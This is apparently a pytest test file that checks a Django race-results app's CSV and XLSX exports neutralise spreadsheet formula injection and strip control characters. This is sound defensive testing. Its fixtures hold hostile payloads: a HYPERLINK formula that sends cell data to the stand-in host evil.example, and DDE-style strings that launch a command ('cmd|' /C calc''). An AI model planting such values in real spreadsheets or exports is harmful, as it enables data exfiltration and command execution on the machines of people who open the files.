"""Exports never carry a live spreadsheet formula or a character a sheet refuses."""

import csv
import io
import json

import openpyxl
import pytest
from django.urls import reverse

from races.models import Entry, Race

from .factories import make_driver, make_entry, make_race, make_team

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def export_url(race, export_format):
    return reverse(
        "races:race-results-export",
        kwargs={"year": race.season.year, "slug": race.slug, "format": export_format},
    )


def race_with_formulas():
    """A race whose only car has a formula for a team, crew and retirement reason."""
    race = make_race()
    make_entry(
        race,
        position=1,
        laps=87,
        car_number="7",
        team=make_team(FORMULA),
        drivers=[make_driver("+cmd|' /C calc'!A0", first_name="")],
        status=Entry.Status.RETIRED,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    return race


def csv_row(client, race) -> dict:
    content = client.get(export_url(race, "csv")).content.decode()
    return next(csv.DictReader(io.StringIO(content)))


def xlsx_row(client, race) -> dict:
    content = client.get(export_url(race, "xlsx")).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    return dict(zip(headers, sheet[2], strict=True))


def test_csv_export_neutralises_formula_cells(client):
    row = csv_row(client, race_with_formulas())
    assert row["team"] == "'" + FORMULA
    assert row["drivers"] == "'+cmd|' /C calc'!A0"
    assert row["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_xlsx_export_writes_formula_like_text_as_text(client):
    row = xlsx_row(client, race_with_formulas())
    for name in ("team", "drivers", "reason"):
        assert row[name].data_type == "s"
        assert row[name].value.startswith("'")
    assert row["team"].value == "'" + FORMULA


def test_xlsx_export_keeps_numbers_as_numbers(client):
    row = xlsx_row(client, race_with_formulas())
    assert row["position"].value == 1
    assert row["laps"].value == 87
    assert row["position"].data_type == "n"
    assert row["car_number"].value == "7"


def test_csv_export_leaves_numbers_and_plain_text_alone(client):
    race = make_race()
    make_entry(race, position=1, laps=90, team=make_team("Audi Sport UK"))
    make_entry(race, position=2, laps=89, reason="-")
    first, second = csv.DictReader(
        io.StringIO(client.get(export_url(race, "csv")).content.decode())
    )
    assert (first["position"], first["laps"], first["team"]) == (
        "1",
        "90",
        "Audi Sport UK",
    )
    assert second["laps_behind"] == "1"
    assert second["reason"] == "'-"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_every_formula_prefix(client, prefix):
    race = make_race()
    make_entry(race, position=1, reason=f"{prefix}1+1")
    assert csv_row(client, race)["reason"] == f"'{prefix}1+1"


def test_json_export_carries_text_unchanged(client):
    race = race_with_formulas()
    row = json.loads(client.get(export_url(race, "json")).content)[0]
    assert row["team"] == FORMULA
    assert row["reason"] == "@SUM(1+1)*cmd|' /C calc'!A0"


def test_exports_drop_control_characters_a_sheet_cannot_hold(client):
    race = make_race()
    make_entry(race, position=1, team=make_team("Bell\x07 Racing\x1b"))
    assert xlsx_row(client, race)["team"].value == "Bell Racing"
    assert csv_row(client, race)["team"] == "Bell Racing"


def test_xlsx_export_opens_when_the_race_name_holds_control_characters(client):
    race = make_race()
    make_entry(race, position=1)
    Race.objects.filter(pk=race.pk).update(short_name="Sebring\x01\x1f\ufffe")
    content = client.get(export_url(race, "xlsx")).content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.active.title == "Sebring 1999"
